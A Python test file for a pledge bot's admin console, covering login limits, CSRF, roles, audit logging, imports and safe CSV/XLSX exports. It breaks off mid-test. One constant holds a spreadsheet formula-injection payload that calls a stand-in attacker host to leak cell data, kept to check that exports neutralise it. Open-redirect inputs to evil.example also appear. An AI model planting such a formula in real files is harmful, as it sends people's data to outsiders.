"""The admin console over HTTP: accounts, login, sessions, CSRF, roles, limits, the audit log
and the security headers."""

from __future__ import annotations

import csv
import dataclasses
import io
import time
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from aiohttp import FormData
from aiohttp.test_utils import TestClient, TestServer

from bot.config import Settings
from bot.errors import CommandError
from bot.model import UserKey
from bot.runtime import Runtime
from bot.services import audit as audit_module
from bot.services.audit import Actor
from bot.services.pledges import Event
from bot.web.app import create_app
from tests.kit.chat import Chat
from tests.kit.console import PASSWORD, account, csrf_of, hidden, log_in
from tests.kit.fulfil import issued_without_a_name, pay, photo
from tests.kit.slots import starting_now
from tests.kit.store import contents


@pytest.fixture
def plain(settings: Settings) -> Settings:
    """Served over plain http, as the test client talks (https makes the cookies Secure)."""
    return dataclasses.replace(settings, public_base_url="http://127.0.0.1:8080")


@pytest.fixture
async def client(plain: Settings, runtime: Runtime) -> AsyncIterator[TestClient[Any, Any]]:
    async with TestClient(TestServer(create_app(plain, runtime))) as client:
        yield client


async def fresh(settings: Settings, runtime: Runtime) -> TestClient[Any, Any]:
    client: TestClient[Any, Any] = TestClient(TestServer(create_app(settings, runtime)))
    await client.start_server()
    return client


async def test_strangers_are_sent_to_the_login_page(client: TestClient[Any, Any]) -> None:
    for path in ("/admin", "/admin/audit?before=1-0"):
        response = await client.get(path, allow_redirects=False)
        assert response.status == 303
        assert response.headers["Location"].startswith("/admin/login?next=")
        assert "admin" in response.headers["Location"].split("next=", 1)[1]
    htmx = await client.get("/admin", headers={"HX-Request": "true"}, allow_redirects=False)
    assert htmx.status == 401 and htmx.headers["HX-Redirect"].startswith("/admin/login")
    page = await client.get("/admin/login")
    assert page.status == 200 and "管理后台登录" in await page.text()
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]
    assert page.headers["X-Frame-Options"] == "DENY"


async def test_the_console_is_a_sub_application_whose_middlewares_run_for_it_alone(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    """Sessions, CSRF and the console's headers belong to /admin: a webhook, a chat page or a
    health check passes through none of them."""
    app = client.server.app
    assert app is not None and len(app.middlewares) == 3  # request ids, headers, errors
    (console,) = [r for r in app.router.resources() if r.canonical == "/admin"]
    assert len(console._app.middlewares) == 3  # type: ignore[attr-defined]  # sessions, headers, size
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    for path in ("/healthz", "/chat", "/privacy"):
        response = await client.get(path)
        assert response.status == 200, path
        assert "X-Frame-Options" not in response.headers, path
        assert "media-src" not in response.headers["Content-Security-Policy"]  # not the console's
        assert "tp_console" not in response.cookies, path
    admin = await client.get("/admin")
    assert admin.status == 200 and admin.headers["X-Frame-Options"] == "DENY"


async def test_log_in_see_the_dashboard_log_out(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    response = await log_in(client, "greening")
    assert response.status == 303 and response.headers["Location"] == "/admin"
    cookie = response.cookies["tp_console"]
    assert cookie["httponly"] and cookie["samesite"] == "Strict" and cookie["path"] == "/admin"
    dashboard = await client.get("/admin")
    text = await dashboard.text()
    assert dashboard.status == 200 and "greening · 市级管理员" in text and "参与人数" in text
    token = await csrf_of(client)
    refused = await client.post("/admin/logout", data={"csrf": "forged"}, allow_redirects=False)
    assert refused.status == 403
    out = await client.post("/admin/logout", data={"csrf": token}, allow_redirects=False)
    assert out.status == 303
    assert (await client.get("/admin", allow_redirects=False)).status == 303
    log = [e for _, e in await runtime.audit.entries()]
    assert [e["what"] for e in log][:3] == ["logout", "login", "admins.add"]
    assert log[1]["who"] == "greening" and log[1]["where"] == "127.0.0.1"


async def test_a_wrong_password_and_the_limits(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    wrong = await log_in(client, "greening", "not the password")
    assert wrong.status == 401 and "用户名或密码不正确" in await wrong.text()
    unknown = await log_in(client, "nobody", "not the password")
    assert unknown.status == 401  # the same answer: names are not revealed
    for _ in range(9):
        await log_in(client, "greening", "still wrong")
    locked = await log_in(client, "greening")  # the right password, after 10 failures here
    assert locked.status == 429 and "15 分钟后再试" in await locked.text()
    log = [(e["what"], e["detail"]) for _, e in await runtime.audit.entries()]
    failed = [detail for what, detail in log if what == "login.failed"]
    assert failed == ["(10 times this minute)", ""]  # 11 failures from here: two entries
    assert ("login.attack", "10 failures in 15 minutes: guesses slowed") in log
    assert "login.refused" in [what for what, _ in log]


async def test_nobody_can_lock_an_account_out_from_everywhere(
    plain: Settings, runtime: Runtime
) -> None:
    """Ten wrong passwords from one address lock the account there only: the right password
    from another address goes through at once; the failing address, once the account is
    under attack, gets one guess a second; the audit log shows the pattern."""
    await account(runtime, "admin", "city")
    attacker = await fresh(plain, runtime)
    try:
        for _ in range(10):
            assert (await log_in(attacker, "admin", "guess")).status == 401
        assert (await log_in(attacker, "admin")).status == 429  # locked here, even if right
    finally:
        await attacker.close()
    admins = runtime.admins
    began = time.monotonic()
    owner = await admins.login("admin", PASSWORD, "198.51.100.7")  # another address
    assert not isinstance(owner, str) and owner.name == "admin"
    assert time.monotonic() - began < 1  # not slowed
    slow = "198.51.100.8"
    assert await admins.login("admin", "guess", slow) == "wrong"  # its first guess
    began = time.monotonic()
    for _ in range(3):  # reserved one a second: now, +1 s, +2 s
        assert await admins.login("admin", "guess", slow) == "wrong"
    assert time.monotonic() - began >= 1.9  # one guess a second for the account
    what = [e["what"] for _, e in await runtime.audit.entries()]
    assert what.count("login.attack") == 1 and "login" in what


async def test_refusals_of_strangers_are_counted_not_logged_one_by_one(
    client: TestClient[Any, Any], runtime: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    minute = (int(time.time()) // 60) * 60 + 30  # the test's own minute, whatever the clock
    monkeypatch.setattr(audit_module, "time", SimpleNamespace(time=lambda: minute))
    page = await (await client.get("/admin/login")).text()
    form = {"csrf": "forged", "username": "x", "password": "y"}
    for _ in range(100):
        assert (await client.post("/admin/login", data=form)).status == 403
    entries = await runtime.audit.entries()
    assert len(entries) == 3 and hidden(page, "csrf")  # the 1st, 10th and 100th of the minute
    assert entries[0][1]["detail"] == "login without CSRF (100 times this minute)"


async def test_the_audit_log_keeps_a_bounded_age(runtime: Runtime) -> None:
    """Entries older than AUDIT_KEEP_DAYS go as the log grows (whole stream nodes at a
    time)."""
    keys, redis = runtime.store.keys, runtime.store.redis
    old = int(time.time() * 1000) - 400 * 86_400_000
    for n in range(500):  # a year and more ago
        await redis.xadd(keys.audit(), {"what": f"old{n}"}, id=f"{old + n}-0")
    for n in range(200):
        await runtime.audit.record("someone", f"new{n}")
    kept = [e["what"] for _, e in await runtime.audit.entries(1000)]
    assert kept[:200] == [f"new{n}" for n in reversed(range(200))]
    assert len(kept) < 300  # the year-old entries went, give or take a stream node


async def test_a_login_without_its_csrf_token_is_refused(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    page = await (await client.get("/admin/login")).text()
    form = {"csrf": "x." + hidden(page, "csrf"), "username": "greening", "password": PASSWORD}
    before = await contents(runtime.store, leaving=("audit",))
    assert (await client.post("/admin/login", data=form)).status == 403
    client.session.cookie_jar.clear()
    form["csrf"] = hidden(page, "csrf")  # a real token without its cookie (another browser)
    assert (await client.post("/admin/login", data=form)).status == 403
    assert await contents(runtime.store, leaving=("audit",)) == before  # no session, no login


async def test_next_only_leads_inside_the_console(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    for target, lands in (
        ("/admin/audit", "/admin/audit"),
        ("https://evil.example/admin", "/admin"),
        ("//evil.example/admin", "/admin"),
        ("/chat", "/admin"),
    ):
        client.session.cookie_jar.clear()
        page = await (await client.get("/admin/login")).text()
        form = {
            "csrf": hidden(page, "csrf"),
            "username": "greening",
            "password": PASSWORD,
            "next": target,
        }
        response = await client.post("/admin/login", data=form, allow_redirects=False)
        assert response.headers["Location"] == lands


async def test_a_disabled_account_loses_its_session(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "manager", "base:jinkui")
    await log_in(client, "manager")
    assert (await client.get("/admin", allow_redirects=False)).status == 200
    await runtime.admins.disable("manager", "test")
    assert (await client.get("/admin", allow_redirects=False)).status == 303
    again = await log_in(client, "manager")
    assert again.status == 403 and "已停用" in await again.text()


async def test_roles_open_their_sections_only(plain: Settings, runtime: Runtime) -> None:
    for name, role in (("c", "city"), ("b", "base:jinkui"), ("r", "reviewer"), ("a", "auditor")):
        await account(runtime, name, role)
    expected = {
        "c": {"/admin": 200, "/admin/audit": 200},
        "b": {"/admin": 200, "/admin/audit": 403},
        "r": {"/admin": 200, "/admin/audit": 403},
        "a": {"/admin": 200, "/admin/audit": 200},
    }
    for name, pages in expected.items():
        client = await fresh(plain, runtime)
        try:
            await log_in(client, name)
            for path, status in pages.items():
                assert (await client.get(path)).status == status, (name, path)
        finally:
            await client.close()
    refused = [e for _, e in await runtime.audit.entries() if e["what"] == "refused"]
    assert {e["who"] for e in refused} == {"b", "r"}


async def test_a_session_is_renewed_by_use_and_ends_after_8_idle_hours(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    keys = [
        k
        async for k in runtime.store.redis.scan_iter(
            match=f"{runtime.store.prefix}console:session:*"
        )
    ]
    (key,) = keys
    await runtime.store.redis.expire(key, 60)
    await client.get("/admin")
    assert await runtime.store.redis.ttl(key) > 7 * 3600  # renewed
    await runtime.store.redis.delete(key)  # as if 8 hours had passed
    assert (await client.get("/admin", allow_redirects=False)).status == 303


async def test_the_first_admin_comes_from_admin_password(
    plain: Settings, runtime: Runtime
) -> None:
    first = "first password!"
    with_password = dataclasses.replace(plain, admin_password=first)
    async with TestClient(TestServer(create_app(with_password, runtime))) as client:
        response = await log_in(client, "admin", first)
        assert response.status == 303
    assert [a.role for a in await runtime.admins.all()] == ["city"]
    assert not await runtime.admins.bootstrap("another password")  # only when none exists


async def test_behind_https_the_cookies_are_secure(settings: Settings, runtime: Runtime) -> None:
    await account(runtime, "greening", "city")
    async with TestClient(TestServer(create_app(settings, runtime))) as client:
        page = await client.get("/admin/login")
        assert page.cookies["tp_console_login"]["secure"]
        response = await log_in(client, "greening")  # its cookie was not sent back over http
        assert response.status == 403


async def test_accounts_refuse_what_will_not_do(runtime: Runtime) -> None:
    with pytest.raises(CommandError, match="unknown role"):
        await runtime.admins.add("x", "base:nowhere", PASSWORD, "test")
    with pytest.raises(CommandError, match="at least 10"):
        await runtime.admins.add("x", "city", "short", "test")
    with pytest.raises(CommandError, match="letters, digits"):
        await runtime.admins.add("<b>", "city", PASSWORD, "test")
    await runtime.admins.add("x", "reviewer", PASSWORD, "test")
    with pytest.raises(CommandError, match="already"):
        await runtime.admins.add("x", "city", PASSWORD, "test")
    stored = await runtime.store.admins.account("x")
    assert stored is not None and "$argon2id$" in stored and PASSWORD not in stored


async def in_kind_claim(runtime: Runtime, user: str = "u1") -> str:
    """A citizen's claim for an in-kind donation at Jinkui; its id."""
    chat = Chat(runtime.engine, user_id=user)
    await chat.pledge("jinkui", "in_kind", "200", "张三丰")
    await chat.send(text="三箱树苗", photo=photo())
    (claim,) = [c for c in await runtime.claims.waiting() if c.user_key == f"test:{user}"]
    return claim.id


async def test_claims_are_reviewed_by_those_allowed(plain: Settings, runtime: Runtime) -> None:
    claim_id = await in_kind_claim(runtime)
    for name, role in (("far", "base:guzhuang"), ("aud", "auditor"), ("rev", "reviewer")):
        await account(runtime, name, role)
    far = await fresh(plain, runtime)
    aud = await fresh(plain, runtime)
    rev = await fresh(plain, runtime)
    try:
        await log_in(far, "far")
        assert "#" + claim_id not in await (await far.get("/admin/claims")).text()
        token = await csrf_of(far)
        other_base = await far.post(f"/admin/claims/{claim_id}/approve", data={"csrf": token})
        assert other_base.status == 403
        await log_in(aud, "aud")
        page = await (await aud.get("/admin/claims")).text()
        assert f"#{claim_id}" in page and "张*丰" in page and "/approve" not in page
        posted = await aud.post(
            f"/admin/claims/{claim_id}/approve", data={"csrf": await csrf_of(aud)}
        )
        assert posted.status == 403  # an auditor changes nothing
        await log_in(rev, "rev")
        no_token = await rev.post(f"/admin/claims/{claim_id}/approve", data={})
        assert no_token.status == 403
        headers = {"HX-Request": "true"}
        no_reason = await rev.post(
            f"/admin/claims/{claim_id}/reject", data={"csrf": await csrf_of(rev)}, headers=headers
        )
        assert no_reason.status == 400 and "原因" in await no_reason.text()
        done = await rev.post(
            f"/admin/claims/{claim_id}/approve", data={"csrf": await csrf_of(rev)}, headers=headers
        )
        assert done.status == 200 and "已通过" in await done.text()
        again = await rev.post(
            f"/admin/claims/{claim_id}/approve", data={"csrf": await csrf_of(rev)}, headers=headers
        )
        assert again.status == 409 and "其他管理员" in await again.text()
        approved = await (await rev.get("/admin/claims?status=approved")).text()
        assert f"#{claim_id}" in approved and "已通过: 控制台 rev" in approved
    finally:
        for client in (far, aud, rev):
            await client.close()
    (pledge,) = await runtime.pledges.of_user("test:u1")
    assert pledge.status == "fulfilled" and pledge.history[-1].by == "console:rev"
    actions = [(e["who"], e["what"]) for _, e in await runtime.audit.entries()]
    assert ("rev", "claims.approve") in actions and ("far", "refused") in actions
    assert ("aud", "refused") in actions


async def test_a_receipts_import_is_previewed_then_applied(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    chat = Chat(runtime.engine, user_id="donor")
    await chat.pledge("jinkui", "donation", "100", "张三丰")
    (pledge,) = await runtime.pledges.of_user("test:donor")
    reference = (await runtime.payments.checkout(pledge)).reference
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    token = await csrf_of(client)
    good = f"reference,amount_yuan,paid_at,receipt_no\n{reference},100,2026-03-12,R1\nZZZ,5,x,R2\n"

    async def upload(text: str, encoding: str = "utf-8") -> Any:
        form = FormData()
        form.add_field("csrf", token)
        form.add_field("file", io.BytesIO(text.encode(encoding)), filename="回单.csv")
        return await client.post("/admin/payments/preview", data=form)

    bad = await upload("reference,amount_yuan,paid_at,receipt_no\nA,-1,x,R\n")
    assert bad.status == 400 and "line 2: amount_yuan" in await bad.text()
    shown = await upload(good, "gbk")
    page = await shown.text()
    assert shown.status == 200 and 'id="would-fulfil">1<' in page and "无此参考码" in page
    assert "unknown reference" not in page  # the console's language, not the code's
    assert (await runtime.pledges.get(pledge.user_key, pledge.id)).status == "pledged"  # type: ignore[union-attr]
    upload_id = hidden(page, "upload")
    done = await client.post("/admin/payments/import", data={"csrf": token, "upload": upload_id})
    assert done.status == 200 and "已导入" in await done.text()
    assert (await runtime.pledges.get(pledge.user_key, pledge.id)).status == "fulfilled"  # type: ignore[union-attr]
    gone = await client.post("/admin/payments/import", data={"csrf": token, "upload": upload_id})
    assert gone.status == 400  # imported once; the file is gone
    actions = [e["what"] for _, e in await runtime.audit.entries()]
    assert "payments.import" in actions and "payments.preview_refused" in actions


async def test_slots_a_roster_and_check_in_at_the_gate(plain: Settings, runtime: Runtime) -> None:
    await account(runtime, "jinkui", "base:jinkui")
    await account(runtime, "guzhuang", "base:guzhuang")
    manager = await fresh(plain, runtime)
    other = await fresh(plain, runtime)
    try:
        await log_in(manager, "jinkui")
        token = await csrf_of(manager)
        tomorrow = (datetime.now(runtime.catalog.timezone) + timedelta(days=1)).date()
        form = {
            "csrf": token,
            "base": "guzhuang",
            "date": str(tomorrow),
            "start": "09:00",
            "end": "11:00",
            "capacity": "5",
            "task": "浇水",
        }
        added = await manager.post("/admin/slots", data=form)
        assert added.status == 200 and "时段已新增" in await added.text()
        (slot,) = await runtime.bookings.slots.slots(0, 2**31, None)
        assert slot.base == "jinkui"  # a base manager adds at their own base, whatever is sent
        bad = await manager.post("/admin/slots", data=form | {"end": "08:00"})
        assert bad.status == 400

        async def upload(text: bytes) -> Any:
            files = FormData()
            files.add_field("csrf", token)
            files.add_field("file", io.BytesIO(text), filename="slots.csv")
            return await manager.post("/admin/slots/import", data=files)

        day = str(tomorrow)
        malformed = await upload(b"base,date\njinkui,soon\n")
        assert malformed.status == 400 and "columns" in await malformed.text()
        wrong_line = await upload(
            f"base,date,start,end,capacity,task\njinkui,{day},09:00,10:00,5,x\n"
            f"jinkui,{day},12:00,11:00,5,x\n".encode()
        )
        assert wrong_line.status == 400 and "line 3" in await wrong_line.text()
        foreign = await upload(
            f"base,date,start,end,capacity,task\nguzhuang,{day},09:00,10:00,5,x\n".encode()
        )
        assert foreign.status == 400  # another base's slots
        huge = await upload(b"x" * (600 * 1024))
        assert huge.status == 400
        assert len(await runtime.bookings.slots.slots(0, 2**31, None)) == 1  # nothing added
        chat = Chat(runtime.engine, user_id="vol", display_name="李四")
        await chat.say("/book")
        await chat.tap("base:jinkui")
        await chat.book(slot.id)
        code = (await runtime.bookings.slots.bookings(UserKey("test:vol")))[slot.id].code
        roster = await (await manager.get(f"/admin/slots/{slot.id}")).text()
        assert code in roster and "已预约" in roster
        await log_in(other, "guzhuang")
        elsewhere = await other.post(
            "/admin/checkin", data={"csrf": await csrf_of(other), "code": code}
        )
        assert elsewhere.status == 403 and "其他基地" in await elsewhere.text()
        assert (await other.get(f"/admin/slots/{slot.id}")).status == 403
        headers = {"X-Checkin": "1"}
        early = await manager.post(
            "/admin/checkin", data={"csrf": token, "code": code}, headers=headers
        )
        assert (
            early.status == 409
            and "还不能签到" in await early.text()
            and "08:00" in await early.text()
        )
        await starting_now(runtime, slot.id)
        first = await manager.post(
            "/admin/checkin", data={"csrf": token, "code": code.lower()}, headers=headers
        )
        assert first.status == 200 and "已在无锡经开区金匮公园签到" in await first.text()
        again = await manager.post(
            "/admin/checkin", data={"csrf": token, "code": code}, headers=headers
        )
        answer = await again.text()
        assert again.status == 409 and "已于" in answer and ":" in answer.split("已于")[1]
        unknown = await manager.post(
            "/admin/checkin", data={"csrf": token, "code": "NOPE"}, headers=headers
        )
        assert unknown.status == 404
        assert "已签到" in await (await manager.get(f"/admin/slots/{slot.id}")).text()
        cancel = f"/admin/slots/{slot.id}/cancel"
        asked = await (await manager.post(cancel, data={"csrf": token})).text()
        assert "1 位已预约或候补的志愿者会收到取消通知" in asked  # asked once, nothing done
        assert (await runtime.bookings.slot(slot.id)).status == "open"  # type: ignore[union-attr]
        cancelled = await manager.post(cancel, data={"csrf": token, "confirm": "yes"})
        assert "时段已取消" in await cancelled.text()
    finally:
        await manager.close()
        await other.close()
    actions = [e["what"] for _, e in await runtime.audit.entries()]
    assert {"slots.add", "checkin", "slots.cancel", "refused"} <= set(actions)


async def test_an_appeal_composed_previewed_sent_and_followed(
    plain: Settings, runtime: Runtime
) -> None:
    for i in range(3):
        await runtime.store.users.subscribe(UserKey(f"telegram:{900 + i}"))
    await account(runtime, "greening", "city")
    await account(runtime, "aud", "auditor")
    city = await fresh(plain, runtime)
    aud = await fresh(plain, runtime)
    try:
        await log_in(city, "greening")
        token = await csrf_of(city)
        form = {
            "csrf": token,
            "text_zh": "植树节 <b>快来</b>",
            "channel": "telegram",
            "lang": "all",
        }
        size = await city.post("/admin/broadcasts/audience", data=form)
        assert "3 位订阅者" in await size.text()
        open_only = await city.post("/admin/broadcasts/audience", data=form | {"duty": "open"})
        assert "0 位订阅者" in await open_only.text()  # nobody has a pledge left to fulfil
        page = await (await city.get("/admin/broadcasts")).text()
        assert 'name="duty"' in page and "已承诺未完成" in page
        shown = await (await city.post("/admin/broadcasts/preview", data=form)).text()
        assert "&lt;b&gt;快来&lt;/b&gt;" in shown and "<b>快来" not in shown
        empty = await city.post("/admin/broadcasts", data=form | {"text_zh": " "})
        assert empty.status == 400 and "needs a text" in await empty.text()
        made = await city.post("/admin/broadcasts", data=form, allow_redirects=False)
        assert made.status == 303
        page = await (await city.get(made.headers["Location"])).text()
        assert "待发送" in page and 'hx-trigger="every 2s"' in page
        await log_in(aud, "aud")
        assert (await aud.get("/admin/broadcasts")).status == 200
        preview = await aud.post(
            "/admin/broadcasts/preview", data=form | {"csrf": await csrf_of(aud)}
        )
        assert preview.status == 403  # an auditor posts nothing
    finally:
        await city.close()
        await aud.close()
    (bc,) = await runtime.appeals.recent()
    assert bc.total == 3 and bc.creator == "console:greening"


async def test_certificates_found_reissued_and_revoked(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    chat = Chat(runtime.engine, user_id="holder")
    await chat.pledge("jinkui", "donation", "100", "张三丰")
    serial = await pay(runtime, "test:holder")
    assert serial
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    token = await csrf_of(client)
    by_name = await (await client.get("/admin/certificates", params={"q": "张三丰"})).text()
    assert serial in by_name and "张三丰" in by_name
    by_serial = await (
        await client.get("/admin/certificates", params={"q": serial.lower()})
    ).text()
    assert serial in by_serial
    before = await runtime.certificates.png(serial)
    emoji = await client.post(
        f"/admin/certificates/{serial}/reissue", data={"csrf": token, "name": "张三🌳"}
    )
    assert emoji.status == 400 and "🌳" in await emoji.text()
    fixed = await client.post(
        f"/admin/certificates/{serial}/reissue",
        data={"csrf": token, "name": "张三峰", "reason": "姓名写错"},
    )
    assert fixed.status == 200 and "重新签发" in await fixed.text()
    pledge = await runtime.pledges.by_serial(serial)
    assert pledge is not None and pledge.name == "张三峰" and pledge.edition == 1
    assert await runtime.certificates.png(serial) != before  # the new name is printed
    assert serial in await (await client.get("/admin/certificates", params={"q": "张三峰"})).text()
    no_reason = await client.post(f"/admin/certificates/{serial}/revoke", data={"csrf": token})
    assert no_reason.status == 400
    asked = await client.post(
        f"/admin/certificates/{serial}/revoke", data={"csrf": token, "reason": "重复申领"}
    )
    assert "验证页将显示“已撤销”" in await asked.text()  # asked once, naming what follows
    assert (await runtime.pledges.by_serial(serial)).status == "fulfilled"  # type: ignore[union-attr]
    revoked = await client.post(
        f"/admin/certificates/{serial}/revoke",
        data={"csrf": token, "reason": "重复申领", "confirm": "yes"},
    )
    assert revoked.status == 200
    verify = await (await client.get(f"/verify/{serial}")).text()
    assert "已于" in verify and "撤销" in verify
    notices = await runtime.store.redis.xrange(runtime.store.keys.jobs("outbox"))
    assert any("pledge.reissued" in str(fields) for _, fields in notices)
    assert any("pledge.revoked" in str(fields) for _, fields in notices)


async def test_the_chinese_console_says_stored_words_in_chinese(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    chat = Chat(runtime.engine, user_id="words")
    await chat.pledge("jinkui", "donation", "100", "张三丰")
    serial = await pay(runtime, "test:words")
    assert serial
    pledge = await runtime.pledges.by_serial(serial)
    assert pledge is not None
    later = Event("2026-12-01T02:00:00+00:00", "a_word_from_later", "robot:9", "")
    await runtime.pledges.note(pledge.user_key, pledge.id, later)  # as a newer version writes
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    page = await (await client.get("/admin/certificates", params={"q": serial})).text()
    assert "认捐 · 市民" in page and "完成 · 回执 R-" in page
    assert "pledged" not in page and "citizen" not in page
    assert "a_word_from_later · robot 9" in page  # unknown: shown as stored, never dropped
    payments = await (await client.get("/admin/payments")).text()
    assert all(word in payments for word in ("待支付", "已支付", "已退款"))
    assert ">refunded<" not in payments


async def test_certificates_issued_without_a_name_are_listed_and_reissued_with_one(
    client: TestClient[Any, Any], runtime: Runtime
) -> None:
    """An older version issued a web visitor's certificate with no name; the console lists
    such certificates and re-issues one with its name (same serial, next edition), and the
    holder is told."""
    chat = Chat(runtime.engine, user_id="visitor")
    await chat.pledge("jinkui", "donation", "60", "王五")
    serial = await issued_without_a_name(runtime, "test:visitor")
    assert [p.serial for p in await runtime.pledges.nameless()] == [serial]
    await account(runtime, "greening", "city")
    await log_in(client, "greening")
    token = await csrf_of(client)
    page = await (await client.get("/admin/certificates")).text()
    assert "1 张证书签发时没有姓名" in page
    listed = await (await client.get("/admin/certificates", params={"nameless": "1"})).text()
    assert serial in listed
    named = await client.post(
        f"/admin/certificates/{serial}/reissue",
        data={"csrf": token, "name": "王五", "reason": "补上姓名"},
    )
    assert named.status == 200 and "重新签发" in await named.text()
    pledge = await runtime.pledges.by_serial(serial)
    assert pledge is not None and pledge.name == "王五" and pledge.edition == 1
    assert await runtime.pledges.nameless() == []
    notices = await runtime.store.redis.xrange(runtime.store.keys.jobs("outbox"))
    assert any("pledge.reissued" in str(fields) and serial in str(fields) for _, fields in notices)


async def test_exports_stream_csv_and_xlsx_that_read_back(
    plain: Settings, runtime: Runtime
) -> None:
    for user, base in (("a", "jinkui"), ("b", "changguangxi")):
        chat = Chat(runtime.engine, user_id=user)
        await chat.pledge(base, "donation", "100", "张三丰")
    await in_kind_claim(runtime, "c")
    await account(runtime, "greening", "city")
    await account(runtime, "jinkui", "base:jinkui")
    city = await fresh(plain, runtime)
    manager = await fresh(plain, runtime)
    try:
        await log_in(city, "greening")
        csv_file = await city.get("/admin/exports/pledges.csv")
        assert csv_file.headers["Content-Disposition"].startswith("attachment")
        data = await csv_file.read()
        assert data.startswith("\ufeff".encode())
        table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert len(table) == 3 and "张" not in data.decode("utf-8-sig")
        xlsx = await city.get(
            "/admin/exports/file", params={"kind": "claims", "fmt": "xlsx", "from": "2020-01-01"}
        )
        book = openpyxl.load_workbook(io.BytesIO(await xlsx.read()), read_only=True)
        sheet = list(book.active.iter_rows(values_only=True))
        book.close()
        assert sheet[0][0] == "claim_id" and sheet[1][2] == "jinkui" and len(sheet) == 2
        assert (await city.get("/admin/exports/pledges.csv?from=soon")).status == 400
        assert (await city.get("/admin/exports/secrets.csv")).status == 404
        await log_in(manager, "jinkui")
        own = await (await manager.get("/admin/exports/pledges.csv?base=changguangxi")).read()
        bases = {row["base"] for row in csv.DictReader(io.StringIO(own.decode("utf-8-sig")))}
        assert bases == {"jinkui"}  # their own base, whatever they ask
    finally:
        await city.close()
        await manager.close()
    assert "exports.download" in [e["what"] for _, e in await runtime.audit.entries()]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


async def test_exports_never_write_a_live_formula(plain: Settings, runtime: Runtime) -> None:
    """A slot's task and a rejection's reason typed to start a formula are written as text:
    a leading ' in CSV, string cells (no formula, no link) in XLSX."""
    start = int(time.time()) + 48 * 3600
    slot = await runtime.bookings.add_slot("jinkui", start, start + 3600, 5, HOSTILE)
    await runtime.bookings.book("test:v", slot.id, "-1+2", "zh", int(time.time()))
    claim_id = await in_kind_claim(runtime, "c")
    await runtime.claims.decide(claim_id, False, Actor.console("greening"), "+1+1")
    await account(runtime, "greening", "city")
    city = await fresh(plain, runtime)
    try:
        await log_in(city, "greening")
        period = {"from": "2020-01-01", "to": "2099-12-31"}
        bookings = await (await city.get("/admin/exports/bookings.csv", params=period)).read()
        (row,) = csv.DictReader(io.StringIO(bookings.decode("utf-8-sig")))
        assert row["task"] == "'" + HOSTILE
        claims = await (await city.get("/admin/exports/claims.csv", params=period)).read()
        assert "'+1+1" in claims.decode("utf-8-sig")
        xlsx = await city.get("/admin/exports/bookings.xlsx", params=period)
        book = openpyxl.load_workbook(io.BytesIO(await xlsx.read()))
        cells = [cell for line in book.active.iter_rows() for cell in line]
        task = next(c for c in cells if c.value == HOSTILE)
        assert task.data_type == "s" and task.hyperlink is None  # text, not a formula
        assert not [c for c in cells if c.data_type == "f"]
    finally:
        await city.close()


ALLOWED = {  # section of a path → roles that may open it (an auditor only reads)
    "dashboard": {"city", "base", "reviewer", "auditor"},
    "claims": {"city", "base", "reviewer", "auditor"},
    "payments": {"city", "auditor"},
    "slots": {"city", "base", "auditor"},
    "checkin": {"city", "base", "auditor"},
    "broadcasts": {"city", "auditor"},
    "certificates": {"city", "auditor"},
    "exports": {"city", "base", "auditor"},
    "audit": {"city", "auditor"},
    "teams": {"city", "base", "auditor"},
}


def concrete(path: str) -> str:
    return (
        path.replace("{id}", "999")
        .replace("{serial}", "WX2026-AAAAAAAAAA-AAAAAA")
        .replace("{kind}.{fmt}", "pledges.csv")
        .replace("{code}", "NOPE00")
    )


async def test_every_console_endpoint_checks_the_role(plain: Settings, runtime: Runtime) -> None:
    app = create_app(plain, runtime)
    routes = sorted(
        {
            (r.method, r.resource.canonical)
            for r in app.router.routes()
            if r.resource is not None
            and r.resource.canonical.startswith("/admin")
            and r.method in ("GET", "POST")
            and r.resource.canonical not in ("/admin/login", "/admin/logout")
        }
    )
    assert len(routes) >= 25
    roles = {"c": "city", "b": "base:jinkui", "r": "reviewer", "a": "auditor"}
    for name, role in roles.items():
        await account(runtime, name, role)
    clients = {name: await fresh(plain, runtime) for name in [*roles, "stranger"]}
    try:
        tokens = {}
        for name in roles:
            await log_in(clients[name], name)
            tokens[name] = await csrf_of(clients[name])
        for method, path in routes:
            section = (path.split("/")[2] if path.count("/") > 1 else "dashboard") or "dashboard"
            url = concrete(path)
            stranger = await clients["stranger"].request(method, url, allow_redirects=False)
            assert stranger.status in (303, 401), (method, path, stranger.status)
            for name, role in roles.items():
                kind = role.split(":")[0]
                data = {"csrf": tokens[name]} if method == "POST" else None
                got = await clients[name].request(method, url, data=data, allow_redirects=False)
                may = kind in ALLOWED[section] and (method == "GET" or kind != "auditor")
                if may:
                    assert got.status not in (403,) and got.status < 500, (
                        name,
                        method,
                        path,
                        got.status,
                    )
                else:
                    assert got.status == 403, (name, method, path, got.status)
    finally:
        for client in clients.values():
            await client.close()


async def test_slot_imports_take_gbk_name_their_limits_and_the_table_pages(
    plain: Settings, runtime: Runtime
) -> None:
    await account(runtime, "greening", "city")
    city = await fresh(plain, runtime)
    try:
        await log_in(city, "greening")
        token = await csrf_of(city)

        async def upload(data: bytes) -> Any:
            files = FormData()
            files.add_field("csrf", token)
            files.add_field("base", "jinkui")
            files.add_field("file", io.BytesIO(data), filename="slots.csv")
            return await city.post("/admin/slots/import", data=files)

        day = (datetime.now(runtime.catalog.timezone) + timedelta(days=3)).date()
        rows = "".join(
